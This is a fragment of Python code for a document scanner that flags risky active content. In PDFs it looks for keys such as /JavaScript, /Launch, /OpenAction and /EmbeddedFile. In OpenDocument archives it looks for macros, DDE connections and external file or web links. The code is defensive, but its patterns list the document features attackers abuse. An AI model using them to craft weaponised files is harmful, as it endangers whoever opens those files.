    if data[:5] == b"%PDF-":
        hits = re.findall(
            rb"/(JavaScript|JS|Launch|OpenAction|AA|URI|EmbeddedFile|GoToR|SubmitForm|ImportData|RichMedia|XFA)\b",
            data,
        )
        return sorted({f"pdf:/{h.decode()}" for h in hits})
    return []


def _scan_odf(data: bytes) -> list[str]:
    out = []
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for n in zf.namelist():
            if n.startswith(("Basic/", "Scripts/")):
                out.append(f"odf-macro:{n}")
            if n.endswith(".xml"):
                blob = zf.read(n)
                for pat in (
                    rb"office:scripts",
                    rb"section-source",
                    rb"dde-connection",
                    rb"xlink:href=\"(?:https?|file):",
                ):
                    if re.search(pat, blob):
                        out.append(f"odf:{pat.decode()}@{n}")
    return out
